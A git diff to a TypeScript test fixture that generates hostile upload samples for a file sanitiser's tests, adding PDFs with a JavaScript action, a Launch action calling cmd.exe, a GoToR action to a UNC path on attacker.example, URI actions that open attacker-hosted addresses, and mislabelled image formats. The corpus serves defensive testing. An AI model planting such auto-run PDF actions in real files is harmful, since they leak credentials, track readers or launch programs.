@@ -1,18 +1,21 @@
 /**
  * A corpus of hostile uploads, generated at run time (no binaries in the repository): renamed
  * executables, image/PDF/HTML polyglots, truncated and corrupt images, decompression bombs,
- * oversized files, SVG with script, encrypted, scripted and malformed PDFs.
+ * oversized files, SVG, TIFF and HEIF images, encrypted, scripted and malformed PDFs (script
+ * hidden in an encrypted object stream, remote go-to a UNC path, web addresses opened on open).
  */
 import { deflateSync } from 'node:zlib';
 import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
 import sharp from 'sharp';
-import { encryptPdfRc4 } from './segment-pdf.ts';
+import { encryptedObjectStreamPdf, encryptPdfRc4 } from './segment-pdf.ts';
 
 export interface HostileFile {
   name: string;
   /** the type the upload claims (the data URL's label) */
   claimed: string;
   bytes: Buffer;
+  /** Active content that a search of the stored bytes cannot see (encrypted, or an action's kind): never stored. */
+  refuse?: true;
 }
 
 /** Strings that must never survive into a stored file. */
@@ -31,6 +34,18 @@ export const ACTIVE_MARKERS = [
   'PK\u0003\u0004',
   '\u007fELF',
 ];
+
+/** What a file is by its first bytes (each format's signature at offset 0), for the formats uploads name. */
+export function formatOf(bytes: Buffer): 'jpeg' | 'png' | 'pdf' | 'other' {
+  if (bytes.subarray(0, 3).equals(Buffer.from([0xff, 0xd8, 0xff]))) return 'jpeg';
+  if (bytes.subarray(0, 8).equals(Buffer.from('89504e470d0a1a0a', 'hex'))) return 'png';
+  if (bytes.subarray(0, 5).toString('latin1') === '%PDF-') return 'pdf';
+  return 'other';
+}
+
+/** PDF syntax of actions hidden in files below. */
+export const JS_ACTION = '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>';
+const LAUNCH_ACTION = '<< /Type /Action /S /Launch /F (cmd.exe) >>';
 
 const crc32 = (buf: Buffer) => {
   let c = ~0;
@@ -118,8 +133,27 @@ export async function hostileCorpus(): Promise<HostileFile[]> {
     void doc.attach(script, 'invoice.html', { mimeType: 'text/html' });
   });
   const plainPdf = await pdfWith();
+  const gotoUnc = await pdfWith((doc) => {
+    const action = doc.context.obj({
+      Type: 'Action',
+      S: 'GoToR',
+      // PDF literal-string escapes: the reader sees \\attacker.example\share\statement.pdf
+      F: PDFString.of('\\\\\\\\attacker.example\\\\share\\\\statement.pdf'),
+      D: [0, 'Fit'],
+    });
+    doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action));
+  });
+  const uriOnOpen = await pdfWith((doc) => {
+    const action = doc.context.obj({ Type: 'Action', S: 'URI', URI: PDFString.of('https://attacker.example/track') });
+    doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action));
+  });
+  const uriOnPageOpen = await pdfWith((doc) => {
+    const action = doc.context.obj({ S: 'URI', URI: PDFString.of('https://attacker.example/page') });
+    doc.getPage(0).node.set(PDFName.of('AA'), doc.context.obj({ O: action }));
+  });
   const tiff = await base.clone().tiff().toBuffer();
   const webp = await base.clone().webp().toBuffer();
+  const heif = await base.clone().avif().toBuffer();
   const gif = await base.clone().gif().toBuffer();
   const withExif = await base
     .clone()
@@ -182,6 +216,32 @@ export async function hostileCorpus(): Promise<HostileFile[]> {
     { name: 'PDF with an embedded HTML file', claimed: 'application/pdf', bytes: embeddedPdf },
     { name: 'PDF with JavaScript labelled PNG', claimed: 'image/png', bytes: jsPdf },
     {
+      name: 'encrypted PDF, JavaScript in an encrypted object stream (opens without a password)',
+      refuse: true,
+      claimed: 'application/pdf',
+      bytes: encryptedObjectStreamPdf(JS_ACTION, { userPassword: '', ownerPassword: 'bank-owner' }),
+    },
+    {
+      name: 'encrypted PDF, launch action in an encrypted object stream (opens without a password)',
+      refuse: true,
+      claimed: 'application/pdf',
+      bytes: encryptedObjectStreamPdf(LAUNCH_ACTION, { userPassword: '', ownerPassword: 'bank-owner' }),
+    },
+    { name: 'PDF opening a UNC path on open (GoToR)', claimed: 'application/pdf', bytes: gotoUnc, refuse: true },
+    {
+      name: 'PDF opening a web address on open (URI OpenAction)',
+      claimed: 'application/pdf',
+      bytes: uriOnOpen,
+      refuse: true,
+    },
+    {
+      name: 'PDF opening a web address with its page (URI in /AA)',
+      claimed: 'application/pdf',
+      bytes: uriOnPageOpen,
+      refuse: true,
+    },
+    { name: 'HTML page then a PDF (polyglot)', claimed: 'application/pdf', bytes: Buffer.concat([script, plainPdf]) },
+    {
       name: 'encrypted PDF (RC4)',
       claimed: 'application/pdf',
       bytes: Buffer.from(
@@ -205,6 +265,8 @@ export async function hostileCorpus(): Promise<HostileFile[]> {
     },
     { name: 'TIFF image', claimed: 'image/tiff', bytes: tiff },
     { name: 'WebP labelled JPEG', claimed: 'image/jpeg', bytes: webp },
+    { name: 'TIFF labelled JPEG', claimed: 'image/jpeg', bytes: tiff },
+    { name: 'HEIF (AVIF) labelled JPEG', claimed: 'image/jpeg', bytes: heif },
     { name: 'animated-capable GIF', claimed: 'image/gif', bytes: gif },
     { name: 'PNG labelled JPEG', claimed: 'image/jpeg', bytes: png },
     { name: 'JPEG with script in its EXIF', claimed: 'image/jpeg', bytes: withExif },
